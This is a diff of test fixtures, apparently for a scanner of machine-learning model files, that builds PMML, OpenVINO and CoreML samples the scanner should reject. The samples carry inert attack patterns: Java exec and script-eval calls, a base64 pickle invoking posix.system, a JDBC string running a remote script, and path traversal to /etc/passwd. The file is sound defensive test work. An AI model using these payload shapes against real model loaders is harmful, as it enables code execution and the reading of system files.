@@ -64,8 +64,8 @@ def pmml_bad() -> Shelf:
     for id, name in (("runtime", "java.lang.Runtime.exec"), ("class", "com.example.waag.EvilFunction"), ("process", "java.lang.ProcessBuilder.start"), ("r", "x-r-system"), ("script", "javax.script.ScriptEngine.eval")):
         add(f"function-{id}", pmml(transformations=f'<DerivedField name="d" optype="continuous" dataType="double"><Apply function="{name}"><Constant dataType="string">echo waag-inert</Constant></Apply></DerivedField>'),
             f"a Java function: {name}", "not-allow")
-    for id, body in (("script", '<Extension name="script" extender="waag"><![CDATA[java.lang.Runtime.getRuntime().exec("echo waag-inert")]]></Extension>'), 
-                     ("javascript", '<Extension name="x"><script>eval("waag-inert")</script></Extension>'), ("pickle", '<Extension name="model">gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu</Extension>'), ("html", '<Extension><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://example.invalid"/></Extension>')):
+    # Text in an extension, Java or HTML, is run by no evaluator: no case.
+    for id, body in (("javascript", '<Extension name="x"><script>eval("waag-inert")</script></Extension>'), ("pickle", '<Extension name="model">gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu</Extension>')):
         add(f"extension-{id}", pmml(extension=body), f"an extension with {id}", "not-allow")
     add("table-locator", pmml(transformations='<DerivedField name="d" optype="categorical" dataType="string"><MapValues outputColumn="o"><TableLocator><Extension name="jdbc" value="jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://example.invalid\'"/></TableLocator></MapValues></DerivedField>'),
         "a table in a database that runs a script", "not-allow")
@@ -129,7 +129,7 @@ def openvino_bad() -> Shelf:
     add("bin-pickle", openvino(), "a pickle in place of the weights", "deny", binary=inert_pickle())
     add("bin-elf", openvino(), "a program in place of the weights", "deny", binary=elf())
     add("bin-tail", openvino(), "a pickle behind the weights", binary=WEIGHTS + inert_pickle())
-    add("rt-info-path", openvino(rt='<conversion_parameters><extensions value="/tmp/libevil.so"/><input_model value="/etc/passwd"/></conversion_parameters>'), "a library in the conversion's parameters")
+    # What the converter was told (rt_info) is not read back: no case.
     return shelf
 
 
@@ -177,12 +177,12 @@ def coreml(kind: int = 500, body: bytes | None = None, extra: bytes = b"", versi
     return field(1, version) + field(2, description()) + field(kind, field(1, linear()) if body is None else body) + extra
 
 
-MANIFEST = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"},
-            "B": {"author": "com.apple.CoreML", "description": "CoreML Model Weights", "name": "weights", "path": "com.apple.CoreML/weights"}}, "rootModelIdentifier": "A"}
+MANIFEST = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}},
+            "rootModelIdentifier": "A"}
 
 
 def package(model: bytes, manifest: dict | None = None, more: dict[str, bytes] | None = None) -> Content:
-    return {"Manifest.json": json.dumps(manifest or MANIFEST).encode(), "Data/com.apple.CoreML/model.mlmodel": model, "Data/com.apple.CoreML/weights/weight.bin": struct.pack("<II56x", 0, 2), **(more or {})}
+    return {"Manifest.json": json.dumps(manifest or MANIFEST).encode(), "Data/com.apple.CoreML/model.mlmodel": model, **(more or {})}
 
 
 def coreml_bad() -> Shelf:
@@ -210,7 +210,8 @@ def coreml_bad() -> Shelf:
     add("package-custom", package(coreml(555, custom)), "a package with a custom model")
     add("package-pickle", package(coreml(), more={"Data/com.apple.CoreML/weights/extra.pkl": inert_pickle()}), "a pickle in the package", "deny")
     add("package-program", package(coreml(), more={"Data/tool": elf()}), "a program in the package", "deny")
-    mil = coreml(502, field(1, 1) + entry(2, "main", field(2, "CoreML7")) + field(9, b"../../../../etc/passwd"), version=8)
+    constant = field(1, "const") + entry(5, "val", field(5, field(1, "@model_path/../../../../etc/passwd") + field(2, 64)))
+    mil = coreml(502, field(1, 1) + entry(2, "main", field(2, "CoreML7") + entry(3, "CoreML7", field(3, constant))), version=8)
     add("mil-blob-path", package(mil), "an ML program that names a path above", "not-allow")
     return shelf
 
